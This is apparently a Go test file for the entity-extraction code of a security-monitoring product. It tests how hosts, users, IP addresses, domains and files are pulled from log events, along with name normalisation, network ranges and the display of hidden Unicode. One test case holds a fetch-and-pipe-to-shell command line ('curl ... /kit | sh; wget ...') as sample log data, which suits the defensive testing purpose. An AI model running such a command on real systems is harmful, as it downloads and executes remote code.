package entity_test

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	vedette "github.com/vedette-soc/vedette"
	"github.com/vedette-soc/vedette/internal/entity"
)

func event(source vedette.Logsource, pairs ...string) *vedette.Event {
	ev := &vedette.Event{Tenant: vedette.DefaultTenant, Logsource: source}
	for i := 0; i < len(pairs); i += 2 {
		ev.Add(pairs[i], pairs[i+1])
	}
	return ev
}

func show(refs []vedette.EntityRef) string {
	var b strings.Builder
	for i, r := range refs {
		if i > 0 {
			b.WriteString(" ")
		}
		fmt.Fprintf(&b, "%s:%s:%s", r.Kind, r.Name, r.Role)
	}
	return b.String()
}

func TestOf(t *testing.T) {
	windows := vedette.Logsource{Product: "windows"}
	tests := []struct {
		name string
		ev   *vedette.Event
		want string
	}{
		{"ssh login", event(vedette.Logsource{Product: "linux", Service: "sshd"},
			"host.name", "WEB-01.corp.example", "source.ip", "203.0.113.9", "user.name", "deploy"),
			"host:web-01:target address:203.0.113.9:actor user:deploy:target"},
		{"windows logon by a machine account", event(windows, "winlog.computer_name", "DC01.corp.example",
			"event.code", "4624", "user.name", "WS07$", "user.domain", "CORP", "source.ip", "::ffff:10.0.0.21"),
			"host:dc01:target address:10.0.0.21:actor"},
		{"process start", event(windows, "host.name", "WS07", "user.name", `CORP\Alice`,
			"process.executable", `C:\Users\Alice\a.EXE`),
			`host:ws07:target user:alice:actor process:c:\users\alice\a.exe:object`},
		{"process start by the system", event(windows, "host.name", "WS07", "user.name", `NT AUTHORITY\SYSTEM`),
			"host:ws07:target"},
		{"outgoing connection", event(windows, "host.name", "ws07", "src.Initiated", "true",
			"source.ip", "10.0.0.21", "destination.ip", "198.51.100.7"),
			"host:ws07:target address:10.0.0.21: address:198.51.100.7:object"},
		{"gateway firewall", event(vedette.Logsource{Categories: []string{"firewall"}}, "host.name", "fw-01",
			"source.ip", "203.0.113.9", "destination.ip", "10.0.0.5"),
			"address:203.0.113.9:actor address:10.0.0.5:target"},
		{"host firewall", event(vedette.Logsource{Categories: []string{"firewall"}}, "host.name", "web-01",
			"src.IN", "eth0", "src.OUT", "", "source.ip", "203.0.113.9", "destination.ip", "10.0.0.5"),
			"host:web-01:target address:203.0.113.9:actor address:10.0.0.5:target"},
		{"own address", event(vedette.Logsource{Product: "linux"}, "host.name", "db-02", "host.ip", "10.0.0.9",
			"host.ip", "fe80::1", "file.path", "/etc/Shadow"),
			"host:db-02:target address:10.0.0.9: file:/etc/Shadow:object"},
		{"cloud", event(vedette.Logsource{Product: "aws"}, "user.name", "arn:aws:iam::1:user/bob",
			"source.ip", "203.0.113.9", "cloud.account.id", "123456789012"),
			"address:203.0.113.9:actor user:bob:actor cloud_account:123456789012:target"},
		{"addresses in a command line", event(vedette.Logsource{Product: "linux"}, "host.name", "db-02", "process.command_line",
			"sh -c 'curl -s http://u:p@198.51.100.23:8080/kit | sh; wget https://Kit.Example/x ftp://10.0.0.5 http://localhost/ http://[2001:db8::5]:80/'"),
			"host:db-02:target address:198.51.100.23:object domain:kit.example:object address:10.0.0.5:target address:2001:db8::5:object"},
		{"dns", event(vedette.Logsource{Categories: []string{"dns"}}, "host.name", "ns1", "source.ip", "10.0.0.5",
			"dns.question.name", "Evil.Example."),
			"address:10.0.0.5:actor domain:evil.example:object"},
		{"nobody", event(vedette.Logsource{}, "host.name", "localhost", "user.name", "-", "source.ip", "127.0.0.1",
			"destination.ip", "224.0.0.1", "url.domain", "10.0.0.1"), ""},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := show(entity.Of(test.ev)); got != test.want {
				t.Errorf("got  %s\nwant %s", got, test.want)
			}
		})
	}
}

func TestOfIsBounded(t *testing.T) {
	ev := event(vedette.Logsource{}, "host.name", strings.Repeat("ü", 4000))
	for i := range 1000 {
		ev.Add("user.name", fmt.Sprintf("user%d", i))
	}
	refs := entity.Of(ev)
	if len(refs) != entity.MaxRefs {
		t.Errorf("%d entities, want %d", len(refs), entity.MaxRefs)
	}
	if n := len(refs[0].Name); n > 256 || refs[0].Name != strings.Repeat("ü", 128) {
		t.Errorf("a long name keeps %d bytes", n)
	}
}

func TestNames(t *testing.T) {
	for in, want := range map[string]string{
		"Web-01": "web-01", "WEB-01.CORP.example.": "web-01", "10.0.0.7": "10.0.0.7", "localhost.localdomain": "",
		"-": "", "": "", "7.rack.example": "7.rack.example", "::ffff:10.0.0.7": "10.0.0.7",
	} {
		if got := entity.Host(in); got != want {
			t.Errorf("Host(%q) = %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{
		"alice": "alice", `CORP\Alice`: "alice", "Alice@corp.example": "alice", "WS01$": "", "S-1-5-18": "", "SYSTEM": "",
		"DWM-3": "", "dwm-tools": "dwm-tools", "-": "", "root": "root", "@handle": "@handle",
	} {
		if got := entity.User(in); got != want {
			t.Errorf("User(%q) = %q, want %q", in, got, want)
		}
	}
	if !entity.CommonAccount("root") || entity.CommonAccount("deploy") {
		t.Error("root is on every machine, deploy is not")
	}
}

func TestProtectedByOverlap(t *testing.T) {
	nets := entity.Networks{Protected: []netip.Prefix{netip.MustParsePrefix("203.0.113.53/32"), netip.MustParsePrefix("2001:db8:1::/48")}}
	for target, want := range map[string]bool{
		"203.0.113.53": true, "203.0.113.54": false, "203.0.0.0/16": true, "0.0.0.0/0": true, "::/0": true,
		"2001:db8:1:2::3": true, "2001:db8::/32": true, "2001:db8:2::/48": false, "::ffff:203.0.113.53": true,
		"::ffff:203.0.113.0/120": true,
	} {
		prefix, err := entity.ParseTarget(target)
		if err != nil {
			t.Fatal(err)
		}
		if _, got := nets.ProtectedBy(prefix); got != want {
			t.Errorf("ProtectedBy(%s) = %v, want %v", target, got, want)
		}
	}
	for _, bad := range []string{"", "example.org", "1.2.3.4/33", "fe80::1%eth0", "1.2.3"} {
		if _, err := entity.ParseTarget(bad); vedette.CodeOf(err) != vedette.CodeInvalid {
			t.Errorf("ParseTarget(%q): %v, want invalid", bad, err)
		}
	}
}

func TestInternal(t *testing.T) {
	var private entity.Networks
	own := entity.Networks{Internal: []netip.Prefix{netip.MustParsePrefix("198.51.100.0/24")}}
	for addr, want := range map[string][2]bool{
		"10.1.2.3": {true, false}, "198.51.100.7": {false, true}, "fd00::1": {true, false}, "8.8.8.8": {false, false},
	} {
		a := netip.MustParseAddr(addr)
		if got := [2]bool{private.IsInternal(a), own.IsInternal(a)}; got != want {
			t.Errorf("%s: %v, want %v", addr, got, want)
		}
	}
	if !slices.Contains(entity.PrivateRanges(), netip.MustParsePrefix("10.0.0.0/8")) {
		t.Error("10.0.0.0/8 is private")
	}
}

func TestDirectory(t *testing.T) {
	d := entity.NewDirectory(2)
	a, b, c := netip.MustParseAddr("10.0.0.1"), netip.MustParseAddr("10.0.0.2"), netip.MustParseAddr("10.0.0.3")
	d.Observe(event(vedette.Logsource{Product: "linux"}, "host.name", "web-01", "host.ip", "10.0.0.1"))
	if got := d.Host(vedette.DefaultTenant, a); got != "web-01" {
		t.Errorf("Host = %q, want web-01", got)
	}
	if got := d.Host("other", a); got != "" {
		t.Errorf("another tenant sees %q", got)
	}
	for i := range 9 {
		d.Learn("t", b, fmt.Sprintf("host-%d", i))
	}
	if got := d.Host("t", b); got != "" {
		t.Errorf("an address claimed by nine hosts belongs to %q", got)
	}
	d.Learn("t", c, "db-02")
	if d.Host(vedette.DefaultTenant, a) != "web-01" || d.Host("t", c) != "db-02" {
		t.Error("the newest address should be known, and no other tenant's forgotten for it")
	}
	d.Learn("t", b, "db-02")
	if d.Host("t", c) != "" || d.Host("t", b) != "db-02" {
		t.Error("a tenant's oldest address should be forgotten for its newest")
	}
}

// A machine keeps its address while it claims it; one that is given away follows; one disputed for a while comes back.
func TestDirectoryClaims(t *testing.T) {
	d := entity.NewDirectory(0)
	addr := netip.MustParseAddr("10.0.0.1")
	claim := func(times int, host, want string) {
		t.Helper()
		for range times {
			d.Learn("t", addr, host)
		}
		if got := d.Host("t", addr); got != want {
			t.Errorf("after %d claims of %s the address is %q, want %q", times, host, got, want)
		}
	}
	claim(1, "dc01", "dc01")
	claim(1, "printer-9", "dc01")
	claim(100, "dc01", "dc01")
	for i := range 10 {
		claim(1, fmt.Sprint("printer-", i), "dc01")
	}
	claim(30, "ws-07", "ws-07")
	for i := range 40 {
		d.Learn("t", addr, fmt.Sprint("node-", i))
	}
	claim(1, "node-40", "")
	claim(100, "dc01", "dc01")
}

func FuzzOf(f *testing.F) {
	f.Add("WEB-01.corp.example", "203.0.113.9:22", `CORP\Alice`, "curl http://198.51.100.7/x")
	f.Add("\xff", "::ffff:1.2.3.4", "a@", "x://[::1")
	f.Fuzz(func(t *testing.T, host, address, user, command string) {
		ev := event(vedette.Logsource{Product: "linux"}, "host.name", host, "host.ip", address, "source.ip", address,
			"user.name", user, "process.command_line", command, "url.domain", host, "file.path", command)
		refs := entity.Of(ev)
		if len(refs) > entity.MaxRefs {
			t.Errorf("%d entities", len(refs))
		}
		for i, r := range refs {
			if r.Name == "" || len(r.Name) > 256 {
				t.Errorf("a name of %d bytes", len(r.Name))
			}
			for _, other := range refs[:i] {
				if other.Kind == r.Kind && other.Name == r.Name {
					t.Errorf("%s %s is listed twice", r.Kind, r.Name)
				}
			}
		}
	})
}

func BenchmarkOf(b *testing.B) {
	ev := event(vedette.Logsource{Product: "linux", Service: "sshd"},
		"host.name", "web-01.corp.example", "source.ip", "203.0.113.9", "user.name", "deploy", "event.outcome", "failure")
	b.ReportAllocs()
	for b.Loop() {
		entity.Of(ev)
	}
}

// A name that only reads like another is another one, and says so where it is shown.
func TestUnseenCharactersAreShown(t *testing.T) {
	for name, want := range map[string]string{
		"dc01\u200b": "dc01(u+200b)", "\u202eDC01": "(u+202e)dc01", "dc01\x00": "dc01(u+0000)", "dc01\xff": "dc01(u+fffd)", "dc01\n": "dc01", "büro-1": "büro-1",
	} {
		if got := entity.Host(name); got != want {
			t.Errorf("Host(%q) = %q, want %q", name, got, want)
		}
		if got := entity.User(name); got != want {
			t.Errorf("User(%q) = %q, want %q", name, got, want)
		}
	}
	if got := entity.Path("/tmp/a\u202egpj.sh"); got != "/tmp/a(u+202e)gpj.sh" {
		t.Errorf("Path = %q", got)
	}
	if got := entity.Domain("exa\u200bmple.com"); got != "exa(u+200b)mple.com" {
		t.Errorf("Domain = %q", got)
	}
}
